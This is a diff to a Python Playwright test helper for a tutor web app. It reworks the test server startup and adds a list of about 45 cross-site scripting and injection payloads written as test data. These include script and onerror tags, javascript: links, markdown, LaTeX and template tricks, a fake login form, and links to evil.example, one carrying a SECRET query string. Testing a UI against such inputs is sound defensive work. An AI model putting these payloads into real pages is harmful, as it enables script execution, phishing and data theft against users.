@@ -16,12 +16,13 @@ from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
-import uvicorn
+from fastapi import FastAPI
 from playwright.sync_api import BrowserContext, Page, Request, sync_playwright
 
 from corpus.errors import UserError
 from tutor.tutor import Tutor
 from tutor.types import Citation, Depth, Message, Reply, Status
+from tutor.ui.server import server
 
 FLAGS = [
     "--no-sandbox",
@@ -32,6 +33,55 @@ FLAGS = [
     "--disable-component-update",
     "--disable-sync",
 ]
+# What attackers write. Each would call `pwned`, or a host that is not this one, if it were more than text.
+PAYLOADS = [
+    "<script>pwned()</script>",
+    "<ScRiPt/x>pwned()</sCrIpT>",
+    "<img src=x onerror=pwned()>",
+    "<img src=x onerror=&#112;wned()//",
+    "<svg onload=pwned()>",
+    "<svg><image href=https://evil.example/a.png></svg>",
+    "<svg><script>pwned()</script></svg>",
+    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
+    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+    "<iframe src=https://evil.example></iframe>",
+    "<object data=https://evil.example></object><embed src=https://evil.example>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
+    "<details open ontoggle=pwned()>x</details>",
+    "<input autofocus onfocus=pwned()>",
+    "<form action=https://evil.example><input name=q><button>Log in</button></form>",
+    "<input type=password placeholder='Your password'>",
+    "<div style='position:fixed;inset:0;background:url(https://evil.example/b.png)'>x</div>",
+    "<style>body{background:url(https://evil.example/c.png)}</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example>",
+    "<link rel=stylesheet href=https://evil.example/d.css>",
+    "<video src=https://evil.example/e.mp4 autoplay onerror=pwned()></video><audio src=https://evil.example/f.mp3>",
+    "<img srcset='https://evil.example/g.png 1x'><picture><source srcset=https://evil.example/h.png></picture>",
+    "<a href=javascript:pwned()>x</a>",
+    "<body onload=pwned()>",
+    "<template><img src=x onerror=pwned()></template>",
+    "[x](javascript:pwned())",
+    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
+    "[x](vbscript:pwned())",
+    "[x](&#106;avascript:pwned())",
+    "[x](java\tscript:pwned())",
+    "[x](https://evil.example 'a\" onmouseover=\"pwned()')",
+    "![x](https://evil.example/?q=SECRET)",
+    "![x][r]\n\n[r]: https://evil.example/i.png",
+    '![x](x" onerror="pwned())',
+    '<https://evil.example/"onmouseover=pwned()>',
+    "\\(\\href{javascript:pwned()}{x}\\) $$\\htmlData{x=y}{\\url{javascript:pwned()}}$$",
+    "\\(<img src=x onerror=pwned()>\\)",
+    "\\[\\includegraphics{https://evil.example/j.png}\\]",
+    "```mermaid\ngraph TD; a-->b; click a href 'javascript:pwned()'\n```",
+    "`<img src=x onerror=pwned()>` ``` <script>pwned()</script>",
+    "</div></details></section><script>pwned()</script>",
+    "&lt;script&gt;pwned()&lt;/script&gt;",
+    "%%%LATEX_BLOCK_0%%% $$<script>pwned()</script>$$",
+    "{{constructor.constructor('pwned()')()}} ${pwned()}",
+    "\ue000<script>pwned()</script>\ue001",
+]
 ENGINE = "Offline engine: quotes your documents word for word, no language model"
 
 
@@ -41,17 +91,19 @@ class Heard:
 
     questions: list[str] = field(default_factory=list)
     histories: list[tuple[Message, ...]] = field(default_factory=list)
+    depths: list[Depth] = field(default_factory=list)
     stopped: int = 0
 
 
 class ScriptedTutor(Tutor):
     """Says what its script has for a question, one step after another; a step may be an error."""
 
-    def __init__(self, script: dict[str, Sequence[Reply | UserError]], examples: Sequence[str] = (), *, pace_s: float = 0.02) -> None:
+    def __init__(self, script: dict[str, Sequence[Reply | Exception]], examples: Sequence[str] = (), *, pace_s: float = 0.02) -> None:
         self.script, self.pace_s = script, pace_s
         self.heard = Heard()
         self.now = Status(ready=True, text="Ready", share=1.0)
-        self._examples = tuple(examples)
+        self.shown_examples = tuple(examples)
+        self.name = ENGINE
         self._ready = threading.Event()
         self._ready.set()
 
@@ -66,13 +118,14 @@ class ScriptedTutor(Tutor):
     def ask(self, question: str, history: Sequence[Message] = (), depth: Depth = "interview") -> Iterator[Reply]:
         self.heard.questions.append(question)
         self.heard.histories.append(tuple(history))
+        self.heard.depths.append(depth)
         self._ready.wait(60)
         if self.now.problem:
             raise UserError(self.now.problem)
         try:
             for step in self.script[question]:
                 time.sleep(self.pace_s)
-                if isinstance(step, UserError):
+                if isinstance(step, Exception):
                     raise step
                 yield step
         except GeneratorExit:
@@ -80,11 +133,11 @@ class ScriptedTutor(Tutor):
             raise
 
     def examples(self) -> tuple[str, ...]:
-        return self._examples if self.now.ready else ()
+        return self.shown_examples if self.now.ready else ()
 
     @property
     def engine(self) -> str:
-        return ENGINE
+        return self.name
 
 
 def growing(answer: str, *, citations: Sequence[Citation] = (), follow_ups: Sequence[str] = (), steps: int = 8) -> list[Reply]:
@@ -102,22 +155,22 @@ def cited(n: int, passage: str, sentence: str, *, file: str = "retrieval.md", qu
 
 
 @contextmanager
-def serving(app: Any) -> Iterator[str]:  # any ASGI application
-    """A real server on a free port; gives its address."""
+def serving(app: FastAPI) -> Iterator[str]:
+    """The real server on a free port; gives its address."""
     with socket.socket() as found:
         found.bind(("127.0.0.1", 0))
         port = found.getsockname()[1]
-    config = uvicorn.Config(app, host="127.0.0.1", port=port, log_level="error", proxy_headers=False, timeout_graceful_shutdown=1)
-    server = uvicorn.Server(config)
-    thread = threading.Thread(target=server.run, daemon=True)
+    running = server(app, "127.0.0.1", port)
+    thread = threading.Thread(target=running.run, daemon=True)
     thread.start()
-    while not server.started:
+    while not running.started:
+        assert thread.is_alive(), "the server did not start"
         time.sleep(0.02)
     try:
         yield f"http://127.0.0.1:{port}"
     finally:
-        server.should_exit = True
-        thread.join(10)
+        running.should_exit = True
+        thread.join(40)
 
 
 def chromium() -> str:
